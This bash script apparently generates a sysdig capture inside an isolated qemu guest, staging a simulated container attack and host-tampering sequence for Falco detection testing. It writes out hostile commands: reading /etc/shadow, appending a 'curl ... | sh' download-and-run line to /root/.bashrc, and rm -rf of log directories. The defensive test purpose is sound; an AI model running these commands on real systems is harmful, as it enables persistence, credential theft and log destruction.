#!/bin/bash
# demo-job.sh — guest-side job (installed as /etc/vm/job by record-demo.sh)
# that records testdata/demo.scap: sysdig + the scap kernel module capture a
# short attack story that Falco's default rules flag, mixed with benign noise.
# Runs inside the qemu guest after guest-init.sh mounted proc/sysfs/devtmpfs.
# Leaves demo.scap and meta.txt in /out. NEVER run it on a host: it edits
# /etc, /bin and /root.
#
# bash and the Debian coreutils/util-linux/procps binaries are copied into the
# guest on purpose: busybox's shell runs its applets through /proc/self/exe,
# so every process would be named "exe" in the capture. Run from bash, the
# commands (and busybox applets like nc, reached via their symlinks) get their
# real names.
#
# Nothing here touches a real network: qemu runs with -nic none, and the
# "Kubernetes API server" 10.96.0.1 is an address on the guest's loopback.
set -u

# Refuse to run anywhere but in the initramfs guest.
if [[ ! -f /etc/vm/job || ! -d /out || $(readlink /proc/1/exe) != */busybox ]]; then
	echo "demo-job: not inside the saker qemu guest, refusing" >&2
	exit 1
fi

# Container id of the simulated docker container: sha256("saker-demo-web").
CID=502b26294054cba1ba55678f812524b8103eddb0d40258d853083240457c847a
CAP=/tmp/demo.scap

log() { echo "demo-job: $*"; }

# ---- setup: not recorded --------------------------------------------------

# cgroup v1 controller hierarchies, as on a docker host using cgroup v1. v1 on
# purpose: the scap driver reports a task's cgroup per controller
# (cpuset=/docker/<id>,...), and under cgroup v2 a child group without enabled
# controllers would still report "/" for every controller.
mount -t tmpfs cgroup /sys/fs/cgroup
for c in cpuset cpu,cpuacct memory pids devices freezer blkio; do
	mkdir -p "/sys/fs/cgroup/$c"
	mount -t cgroup -o "$c" cgroup "/sys/fs/cgroup/$c" || log "cannot mount cgroup $c"
	mkdir -p "/sys/fs/cgroup/$c/docker/$CID"
done
# cpuset groups accept tasks only once they have cpus and mems.
for d in docker "docker/$CID"; do
	cat /sys/fs/cgroup/cpuset/cpuset.cpus >"/sys/fs/cgroup/cpuset/$d/cpuset.cpus"
	cat /sys/fs/cgroup/cpuset/cpuset.mems >"/sys/fs/cgroup/cpuset/$d/cpuset.mems"
done

# Files the story reads, links to, edits and deletes.
# shellcheck disable=SC2016 # a literal crypt(3) string, not an expansion
echo 'root:$6$saker$Vq0demo0hash0only0not0a0real0password0:19700:0:99999:7:::' >/etc/shadow
echo 'www-data:*:19700:0:99999:7:::' >>/etc/shadow
chgrp 42 /etc/shadow
chmod 640 /etc/shadow
echo "alias ll='ls -l'" >/root/.bashrc
mkdir -p /var/log/app/archive /var/www/html
for i in 1 2 3; do
	echo "GET /index.html 200" >"/var/log/app/access.$i.log"
	echo "old" >"/var/log/app/archive/access.$i.log.1"
done
echo '<h1>hello</h1>' >/var/www/html/index.html
# The cluster's API server VIP, local to the guest (see header).
ip link set lo up
ip addr add 10.96.0.1/32 dev lo

# The simulated container's init: a script named runc, so the in-container
# shell's parent is "runc" as under docker. It is started inside new
# mount/pid/uts namespaces, after its parent joined the docker cgroups, and
# gives the shell the serial console as controlling terminal.
mkdir -p /usr/local/bin
{
	echo '#!/bin/bash'
	echo 'hostname web-7d4b9c'
	echo "setsid -c bash -c 'id; cat /etc/shadow >/dev/null; ps >/dev/null; nc -w1 10.96.0.1 443 </dev/null; exit 0' </dev/ttyS0"
} >/usr/local/bin/runc
chmod 755 /usr/local/bin/runc

log "loading scap.ko"
insmod /lib/modules/scap.ko || { log "insmod scap.ko failed"; exit 1; }
ls /dev/scap* >/dev/null 2>&1 || { log "no /dev/scap* device nodes"; exit 1; }

# ---- capture ----------------------------------------------------------------

log "starting sysdig"
sysdig -w "$CAP" -s 80 &
spid=$!
# sysdig writes the file header and its process table once the driver is open.
i=0
while [[ ! -s $CAP && $i -lt 300 ]]; do
	sleep 0.1
	i=$((i + 1))
done
[[ -s $CAP ]] || { log "sysdig did not start"; exit 1; }
sleep 1

log "story: benign noise"
date
ls / >/dev/null
ps >/dev/null
cat /var/www/html/index.html >/dev/null

log "story: API server listener"
nc -l -p 443 </dev/null >/dev/null &
lpid=$!
sleep 0.3

log "story: shell in container $CID"
# (One-line bash -c scripts: a newline in a command line would split sysdig's
# one-event-per-line output.)
bash -c 'for c in /sys/fs/cgroup/*/docker/'"$CID"'; do echo $$ >"$c/cgroup.procs"; done; exec unshare -m -p -u -f --mount-proc /usr/local/bin/runc'
wait "$lpid" 2>/dev/null

log "story: host tampering"
bash -c 'cat /etc/shadow >/dev/null; touch /etc/evil.conf; mkdir /bin/hello; ln -s /etc/shadow /tmp/x; echo "curl -s http://203.0.113.7/x | sh" >>/root/.bashrc; rm -rf /var/log/app'

log "story: benign noise"
date >/dev/null
ls -l /tmp >/dev/null
uname -a >/dev/null

sleep 0.5
log "stopping sysdig"
kill -INT "$spid"
wait "$spid"
src=$?
log "sysdig exited with status $src"

cp "$CAP" /out/demo.scap
{
	echo "kernel: $(uname -r)"
	echo "kernel_build: $(uname -v)"
	echo "sysdig: $(sysdig --version 2>&1)"
	echo "scap_driver: $(cat /sys/module/scap/version 2>/dev/null)"
	echo "container_id: $CID"
	echo "capture_bytes: $(wc -c <"$CAP")"
} >/out/meta.txt
cat /out/meta.txt
exit "$src"
